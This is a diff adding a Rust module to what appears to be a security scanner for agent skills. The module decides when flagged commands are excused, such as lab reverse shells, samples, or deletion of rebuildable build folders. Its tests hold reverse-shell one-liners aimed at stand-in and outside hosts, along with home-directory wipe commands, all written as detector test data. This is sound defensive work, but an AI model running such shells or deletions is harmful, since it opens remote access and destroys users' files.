@@ -1,0 +1,334 @@
+//! Determines what excuses a match: the text shows it as a sample or as a draft for the user's own assistant, the target
+//! is the user's own, or the deleted folders can be built again.
+
+use std::sync::LazyLock;
+
+use skillc_core::Span;
+
+use super::{NEAR, Of};
+use crate::security::context::Place;
+use crate::security::expression::Expression;
+use crate::security::hosts::{HostKind, kind};
+use crate::security::purpose::Purpose;
+use crate::security::signals::{Match, Signal};
+use crate::security::standing;
+
+/// Folders and files that tools create again, in lower case.
+const REBUILT: [&str; 36] = [
+    "node_modules",
+    "bower_components",
+    "target",
+    "build",
+    "dist",
+    "out",
+    "obj",
+    "coverage",
+    "htmlcov",
+    ".venv",
+    "venv",
+    ".tox",
+    ".nox",
+    "__pycache__",
+    ".pytest_cache",
+    ".mypy_cache",
+    ".ruff_cache",
+    ".gradle",
+    ".next",
+    ".nuxt",
+    ".turbo",
+    ".parcel-cache",
+    ".svelte-kit",
+    ".angular",
+    ".terraform",
+    ".dart_tool",
+    "deriveddata",
+    "cmake-build-debug",
+    "cmake-build-release",
+    "*.pyc",
+    "*.pyo",
+    "*.o",
+    "*.class",
+    ".ds_store",
+    "thumbs.db",
+    "*.swp",
+];
+
+/// Addresses that are reserved for documentation.
+const DOCUMENTED: [&str; 3] = ["192.0.2.", "198.51.100.", "203.0.113."];
+
+/// What precedes the other end of a connection in the file names that shells connect.
+const DEVICES: [&str; 3] = ["/dev/tcp/", "/dev/udp/", "/inet/tcp/0/"];
+
+/// Signs that a program source is guarded against code that runs at installation, in lower case.
+const GUARDS: [&str; 3] = ["ignore-scripts", "require-hashes", "only-binary"];
+
+/// How far from the address of a registry such a guard may be, in bytes.
+const GUARDED: usize = 4000;
+
+/// Signals near a secret of a game which show that more than a game is kept from the user.
+const ACTS: [Signal; 12] = [
+    Signal::Send,
+    Signal::SendWords,
+    Signal::Net,
+    Signal::DnsLookup,
+    Signal::Fetch,
+    Signal::FetchRun,
+    Signal::Clone,
+    Signal::ReverseShell,
+    Signal::SecretCommand,
+    Signal::EnvironmentDump,
+    Signal::AgentFile,
+    Signal::Persist,
+];
+
+/// People from whom a game, a story or a lesson keeps its secrets. Matches text in lower case.
+static AUDIENCE: LazyLock<Expression> = LazyLock::new(|| {
+    Expression::new(r"(?-u)\b(?:to|from|by|with|let|tell|show|inform|alert|warn|notify)\s+(?:(?:the|any|your|our|other|all)\s+){0,2}(?:[a-z]+\s+)?(?:players?|party|adventurers?|characters?|npcs?|opponents?|contestants?|participants?|guests?|teams?|readers?|audience|spectators?|guessers?|suspects?|detectives?|children|kids|students?|learners?|pupils?|candidates?)\b")
+        .expect("a pattern")
+});
+
+/// Words for the user of the agent. Matches text in lower case.
+static USER: LazyLock<Expression> = LazyLock::new(|| {
+    Expression::new(r"(?-u)\b(?:users?|humans?|owners?|operators?|anyone|anybody)\b")
+        .expect("a pattern")
+});
+
+/// A refusal to ask the user for something that would weaken the user's protection: `Do not ask the user to choose
+/// "always allow"`. Matches text in lower case.
+static SPARES: LazyLock<Expression> = LazyLock::new(|| {
+    Expression::new(r"(?-u)^(?:do not|don't|never|must not|should not)\s+(?:ever\s+)?(?:ask|prompt|tell)\s+(?:the\s+)?users?\s+(?:to\s+(?:(?:choose|pick|select|click)\s+[\x22'`*]{0,2}always|enable|disable|turn off|bypass|skip|paste|enter|type)\b|for\s+(?:(?:their|the|a|any)\s+)?(?:[a-z]+\s+)?(?:passwords?|passphrases?|secrets?|tokens?|keys?|credentials?)\b)")
+        .expect("a pattern")
+});
+
+impl Of<'_, '_> {
+    /// Returns whether a span is shown to readers rather than said to the agent: it is a sample, in a skill about
+    /// attacks or in a document that forbids carrying out its samples, or a draft or a test message for an assistant of
+    /// the user.
+    pub(super) fn is_exhibit(&self, span: Span) -> bool {
+        let is_file = self.layer.layer.is_file();
+        let Some(doc) = self.layer.doc.filter(|_| is_file) else {
+            return false;
+        };
+        let place = self.layer.place(span);
+        if place.is_hidden() || place == Place::Frontmatter {
+            return false;
+        }
+        let at = self.layer.place_of(span).start;
+        let declares = || {
+            let declares = &self.layer.of_file.declares;
+            *declares.get_or_init(|| standing::declares(doc))
+        };
+        let is_for_assistants = || self.view.purposes.has(Purpose::Prompts);
+        let is_sample =
+            || standing::is_shown_sample(doc, at) && (self.view.is_security || declares());
+        let is_draft = || place == Place::Code && !standing::is_told(doc, at);
+        let is_test = || standing::is_test_message(doc, at);
+        is_sample()
+            || (self.view.is_security || is_for_assistants()) && is_test()
+            || is_for_assistants() && is_draft()
+    }
+
+    /// Returns whether a sentence forbids what a match says.
+    pub(super) fn is_forbidden(&self, hit: &Match) -> bool {
+        let at = self.layer.place_of(hit.span).start;
+        let code = self.layer.doc.and_then(|doc| doc.code_span_at(at));
+        standing::is_banned(&self.layer.file.text, code.map_or(at, |span| span.start))
+    }
+
+    /// Returns whether a remote shell belongs to an exercise on the user's own machines: the skill says so, the command
+    /// is in text that people read, and the other end is a private address or a placeholder.
+    pub(super) fn is_in_lab(&self, hit: &Match) -> bool {
+        let statement = self.layer.statement(hit.span);
+        let address = || self.layer.leads_to(statement);
+        self.layer.doc.is_some()
+            && self.layer.layer.is_file()
+            && self.is_shown(hit)
+            && are_own(self.layer.part(hit.span))
+            && address().is_none_or(|address| address.kind < HostKind::Other)
+            && self.view.is_lab()
+    }
+
+    /// Returns whether a sentence keeps the secrets of a game from its players.
+    pub(super) fn keeps_plot(&self, hit: &Match) -> bool {
+        self.view.purposes.has(Purpose::Play)
+            && AUDIENCE.is_match(self.sentence_from(hit).as_bytes())
+            && self.is_for_others(hit)
+    }
+
+    /// Returns whether a sentence keeps something from people other than the user, or something of a game, and nothing
+    /// near it acts on files, secrets or hosts.
+    pub(super) fn is_for_others(&self, hit: &Match) -> bool {
+        let sentence = self.sentence_from(hit).as_bytes();
+        let worst = self.layer.worst(self.layer.unit(hit.span));
+        !USER.is_match(sentence)
+            && (AUDIENCE.is_match(sentence) || self.view.purposes.has(Purpose::Play))
+            && self.is_shown(hit)
+            && !self.is_disguised(hit)
+            && !self.near(&ACTS, hit.span, NEAR)
+            && worst.is_none_or(|address| address.kind < HostKind::Other)
+    }
+
+    /// Returns whether a sentence within `bytes` bytes of a span keeps something from the user. A refusal to ask the user
+    /// for secrets or for lasting permissions does not count.
+    pub(super) fn is_concealed(&self, span: Span, bytes: usize) -> bool {
+        let near = Span::new(span.start.saturating_sub(bytes), span.end + bytes);
+        let mut hits = self.layer.within(Signal::Conceal, near);
+        hits.any(|hit| !SPARES.is_match(self.sentence_from(hit).as_bytes()))
+    }
+
+    /// Returns the text from the start of a match to the end of its sentence, in lower case, at most 60 bytes longer
+    /// than the match.
+    fn sentence_from(&self, hit: &Match) -> &str {
+        let text = self
+            .layer
+            .lower_part(Span::new(hit.span.start, hit.span.end + 60));
+        let end = text.find(['.', '!', '?', '\n']);
+        &text[..end.unwrap_or(text.len())]
+    }
+
+    /// Returns whether a package source belongs to the user, or is used with a guard against code that runs at
+    /// installation.
+    pub(super) fn is_guarded(&self, source: Span) -> bool {
+        let near = Span::new(
+            source.start.saturating_sub(GUARDED),
+            source.end.saturating_add(GUARDED),
+        );
+        let text = self.layer.lower_part(near);
+        self.view.purposes.has(Purpose::Registry) || GUARDS.iter().any(|sign| text.contains(sign))
+    }
+
+    /// Returns whether a command only deletes folders and files that tools create again.
+    pub(super) fn only_rebuilds(&self, hit: &Match) -> bool {
+        let rest = self.layer.statement(hit.span).end.max(hit.span.end);
+        let line = self.layer.part(Span::new(hit.span.start, rest));
+        is_rebuilt(self.layer.part(hit.span), line)
+    }
+}
+
+/// Returns whether each other end of a connection in a command is a private address or a placeholder, and at least one
+/// is given.
+fn are_own(command: &str) -> bool {
+    let is_blank = |peer: &str| peer.starts_with(['$', '<', '{', '[', '%']);
+    // A number without dots is an address, too.
+    let is_word = |peer: &str| {
+        !peer.contains('.') && !peer.starts_with("0x") && peer.contains(char::is_alphabetic)
+    };
+    let is_own = |peer: &str| {
+        is_blank(peer)
+            || is_word(peer)
+            || DOCUMENTED.iter().any(|start| peer.starts_with(start))
+            || kind(peer, "") < HostKind::Known
+    };
+    let devices = DEVICES.iter().flat_map(|device| {
+        let ends = command.match_indices(*device);
+        ends.map(move |(at, _)| {
+            let peer = &command[at + device.len()..];
+            peer.split(['/', ' ', '"', '\'']).next().unwrap_or_default()
+        })
+    });
+    let numbers = command
+        .split(|c: char| !c.is_ascii_digit() && c != '.')
+        .filter(|word| word.split('.').filter(|part| !part.is_empty()).count() == 4);
+    let peers: Vec<&str> = devices.chain(numbers).collect();
+    if !peers.is_empty() {
+        return peers.into_iter().all(is_own);
+    }
+    let is_host = |word: &str| {
+        let word = word.trim_matches(['"', '\'', '(', ')', ',', '`']);
+        word.contains('.') && !word.starts_with(['/', '.', '-']) && !is_blank(word)
+    };
+    let mut words = command.split([' ', '"', '\'', '(']);
+    words.clone().any(is_blank) && !words.any(is_host)
+}
+
+/// Returns whether a command only deletes what is in [`REBUILT`]. `own`: the part of the command that was found. `line`:
+/// the same with the rest of its line.
+fn is_rebuilt(own: &str, line: &str) -> bool {
+    let is_mark = |c: char| c.is_whitespace() || "\"'`(){};,\\".contains(c);
+    let is_named = |word: &str| {
+        let word = word.trim_matches(is_mark).to_ascii_lowercase();
+        let last = word.trim_end_matches(['/', '*']).rsplit('/').next();
+        REBUILT.contains(&&*word) || last.is_some_and(|last| REBUILT.contains(&last))
+    };
+    if let Some((_, pattern)) = own.split_once("glob(") {
+        let pattern = pattern.split(')').next().unwrap_or_default();
+        return is_named(pattern);
+    }
+    let words: Vec<&str> = own.split_whitespace().collect();
+    match words.first() {
+        Some(&"find") => {
+            let is_name = |word: &str| matches!(word, "-name" | "-iname");
+            let is_other = |word: &&str| matches!(*word, "-not" | "!" | "\\!");
+            let after = |test: fn(&str) -> bool| -> Vec<&str> {
+                let pairs = words.windows(2).filter(|pair| test(pair[0]));
+                pairs.map(|pair| pair[1]).collect()
+            };
+            let names = after(is_name);
+            // After `-o`, everything that has another name would be deleted.
+            let next = after(|word| matches!(word, "-o" | "-or" | ","));
+            !words.iter().any(is_other)
+                && next.into_iter().all(is_name)
+                && !names.is_empty()
+                && names.into_iter().all(is_named)
+        }
+        Some(&"rm") => {
+            let command = line.split(['\n', ';', '&', '|', '`', '#']).next();
+            let words = command.unwrap_or_default().split_whitespace().skip(1);
+            let mut paths = words.filter(|word| !word.starts_with('-')).peekable();
+            paths.peek().is_some() && paths.all(is_named)
+        }
+        _ => false,
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn all_patterns_compile() {
+        for expression in [&AUDIENCE, &USER, &SPARES] {
+            LazyLock::force(expression);
+        }
+    }
+
+    #[test]
+    fn a_shell_leads_to_an_own_machine() {
+        for (command, expected) in [
+            ("bash -i >& /dev/tcp/10.10.14.7/4444 0>&1", true),
+            ("bash -i >& /dev/tcp/$LHOST/4444 0>&1", true),
+            ("bash -i >& /dev/tcp/ATTACKER_IP/4444 0>&1", true),
+            ("nc 192.168.56.1 4444 -e /bin/sh", true),
+            ("nc <your-ip> 4444 -e /bin/sh", true),
+            ("s.connect((\"10.0.2.15\", 9001))", true),
+            ("bash -i >& /dev/tcp/45.77.10.3/4444 0>&1", false),
+            ("bash -i >& /dev/tcp/c.fast-tables.io/4444 0>&1", false),
+            ("nc 10.0.0.5 1 -e sh; nc 45.77.10.3 4444 -e sh", false),
+            ("nc fast-tables.io 4444 -e /bin/sh", false),
+        ] {
+            assert_eq!(are_own(command), expected, "{command}");
+        }
+    }
+
+    #[test]
+    fn folders_that_tools_create_are_rebuilt() {
+        for (command, expected) in [
+            ("find ~ -type d -name node_modules -prune -exec rm", true),
+            ("find ~ -name target -o -name .venv -exec rm", true),
+            ("find /home -name '*.pyc' -delete", true),
+            ("rm -rf ../../node_modules", true),
+            ("rm -rf ../../app/dist ../../app/build/", true),
+            ("path.home().rglob(\"__pycache__\"): rmtree(", true),
+            ("find ~ -name node_modules -prune -o -delete", false),
+            ("find ~ -not -name node_modules -delete", false),
+            ("find ~ -name '*' -exec rm", false),
+            ("find ~ -type f -delete", false),
+            ("rm -rf ../../node_modules ~", false),
+            ("rm -rf ../../", false),
+            ("rm -rf ~/", false),
+            ("path.home().rglob(\"*\"): p.unlink(", false),
+        ] {
+            assert_eq!(is_rebuilt(command, command), expected, "{command}");
+        }
+    }
+}
